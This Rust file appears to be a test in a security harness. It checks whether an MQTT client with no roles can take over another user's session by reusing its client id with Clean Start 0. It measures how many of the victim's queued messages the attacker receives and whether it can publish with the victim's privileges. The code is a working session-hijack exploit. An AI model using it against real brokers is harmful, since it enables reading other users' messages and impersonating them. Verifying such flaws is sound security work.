//! `mqtt-takeover` (issue 21, 1): a client whose token has no role and
//! another user's id takes over the victim's MQTT session by reusing its
//! client id with Clean Start = 0.
//!
//! 1. Detached: the victim (user `victim`, roles joinLeaveGroup and
//!    sendToGroup, 3.1.1, Clean Session 0) subscribes to `victim-group` and
//!    leaves; REST sends `VICTIM_MESSAGES` messages to the group, which the
//!    detached session keeps; the attacker (user `attacker`, no role)
//!    connects with the victim's client id and Clean Session 0: its CONNACK
//!    (Session Present?) and how many of the victim's messages it gets.
//! 2. Connected: the victim (5.0, session expiry 60 s) is connected; the
//!    attacker connects with its client id, Clean Start 0: what the victim
//!    gets (DISCONNECT 0x8E?), the attacker's CONNACK, then the PUBACK code
//!    of the attacker's QoS 1 PUBLISH to group `anygroup` on that session,
//!    beside the code its own session (another client id) gets (0x87).
//!
//! Knobs: `VICTIM_MESSAGES` (10).

use std::time::Duration;

use crate::knobs::knob;
use crate::mqtt::{self, Client, Connect, Next, DISCONNECT, PUBACK, PUBLISH, SUBACK, V4, V5};
use crate::target::Target;

const ROLES: [&str; 2] = ["webpubsub.joinLeaveGroup", "webpubsub.sendToGroup"];

pub async fn run(target: &Target) -> String {
    let messages: u32 = knob("VICTIM_MESSAGES", 10);
    let detached = detached(target, messages).await;
    let connected = connected(target).await;
    format!("detached: {detached}; connected: {connected}")
}

/// How a CONNACK reads: `code 0, Session Present=1`.
fn connack_text(p: &mqtt::In) -> String {
    format!(
        "CONNACK code {:#04x}, Session Present={}",
        p.connack_code().unwrap_or(0xFF),
        u8::from(p.session_present())
    )
}

async fn detached(target: &Target, messages: u32) -> String {
    let victim_token = target.mqtt_token(Some("victim"), &ROLES);
    let mut c = Connect::new(V4, "victimsession");
    c.clean = false;
    let mut victim = match Client::connect(target, &victim_token, &c).await {
        Ok((client, ack)) if ack.connack_code() == Some(0) => client,
        Ok((_, ack)) => return format!("the victim was refused ({})", connack_text(&ack)),
        Err(why) => return format!("the victim could not connect: {why}"),
    };
    if victim
        .send(&mqtt::subscribe(V4, 1, &[("victim-group", 1)]))
        .await
        .is_err()
    {
        return "the victim's SUBSCRIBE failed".to_owned();
    }
    match victim.next(Duration::from_secs(5)).await {
        Next::Packet(p) if p.kind == SUBACK => {}
        other => return format!("the victim got no SUBACK ({other:?})"),
    }
    victim.close().await;
    tokio::time::sleep(Duration::from_millis(500)).await;
    let path = target.group_send_path("victim-group");
    let mut statuses = super::Tally::default();
    for i in 0..messages {
        statuses.add(
            target
                .rest_send(&path, format!("secret {i} for the victim").as_bytes())
                .await,
        );
    }
    eprintln!("mqtt-takeover: victim detached, {messages} REST sends to its group: {statuses}");

    let attacker_token = target.mqtt_token(Some("attacker"), &[]);
    let mut c = Connect::new(V4, "victimsession");
    c.clean = false;
    let (mut attacker, ack) = match Client::connect(target, &attacker_token, &c).await {
        Ok(pair) => pair,
        Err(why) => return format!("REST sends {statuses}; the attacker got no CONNACK: {why}"),
    };
    let mut delivered = 0;
    if ack.connack_code() == Some(0) {
        loop {
            match attacker.next(Duration::from_secs(3)).await {
                Next::Packet(p) if p.kind == PUBLISH => {
                    delivered += 1;
                    let (qos, id) = p.publish_id();
                    if qos == 1 {
                        let _ = attacker.send(&mqtt::puback(id)).await;
                    }
                }
                Next::Packet(_) => {}
                Next::Closed(_) | Next::Timeout => break,
            }
        }
    }
    attacker.close().await;
    format!(
        "REST sends to the victim's group {statuses}; the attacker (no role, user `attacker`) with the \
         victim's client id and Clean Session 0: {}, {delivered} of {messages} victim messages delivered to it",
        connack_text(&ack)
    )
}

async fn connected(target: &Target) -> String {
    let victim_token = target.mqtt_token(Some("victim"), &ROLES);
    let mut c = Connect::new(V5, "victimlive");
    c.properties = mqtt::session_expiry(60);
    let mut victim = match Client::connect(target, &victim_token, &c).await {
        Ok((client, ack)) if ack.connack_code() == Some(0) => client,
        Ok((_, ack)) => return format!("the victim was refused ({})", connack_text(&ack)),
        Err(why) => return format!("the victim could not connect: {why}"),
    };
    let attacker_token = target.mqtt_token(Some("attacker"), &[]);
    let mut c = Connect::new(V5, "victimlive");
    c.clean = false;
    c.properties = mqtt::session_expiry(60);
    let attacker = Client::connect(target, &attacker_token, &c).await;
    // What the victim saw meanwhile.
    let victim_saw = match victim.next(Duration::from_secs(3)).await {
        Next::Packet(p) if p.kind == DISCONNECT => format!("DISCONNECT {:#04x}", p.reason_code()),
        Next::Packet(p) => format!("packet type {}", p.kind),
        Next::Closed(how) => format!("closed without DISCONNECT ({how})"),
        Next::Timeout => "nothing (still connected)".to_owned(),
    };
    victim.close().await;
    let (mut attacker, ack) = match attacker {
        Ok(pair) => pair,
        Err(why) => {
            return format!("the victim got {victim_saw}; the attacker got no CONNACK: {why}")
        }
    };
    let on_victim = if ack.connack_code() == Some(0) {
        publish_code(&mut attacker).await
    } else {
        "not tried".to_owned()
    };
    attacker.close().await;
    // The attacker's own session, for comparison.
    let own = match Client::connect(target, &attacker_token, &Connect::new(V5, "attackerown")).await
    {
        Ok((mut client, ack)) if ack.connack_code() == Some(0) => {
            let code = publish_code(&mut client).await;
            client.close().await;
            code
        }
        Ok((_, ack)) => format!("refused ({})", connack_text(&ack)),
        Err(why) => why,
    };
    format!(
        "the victim got {victim_saw}; the attacker with Clean Start 0: {}; its QoS 1 PUBLISH to \
         `anygroup` on that session acked {on_victim} (on its own session: {own})",
        connack_text(&ack)
    )
}

/// The PUBACK code of a QoS 1 PUBLISH to `anygroup`, or what came instead.
async fn publish_code(client: &mut Client) -> String {
    if client
        .send(&mqtt::publish(
            V5,
            "anygroup",
            1,
            7,
            &[],
            b"from the attacker",
        ))
        .await
        .is_err()
    {
        return "PUBLISH not sent".to_owned();
    }
    loop {
        match client.next(Duration::from_secs(5)).await {
            Next::Packet(p) if p.kind == PUBACK => return format!("{:#04x}", p.reason_code()),
            Next::Packet(p) if p.kind == DISCONNECT => {
                return format!("DISCONNECT {:#04x}", p.reason_code())
            }
            Next::Packet(_) => {}
            Next::Closed(how) => return format!("closed ({how})"),
            Next::Timeout => return "no PUBACK".to_owned(),
        }
    }
}
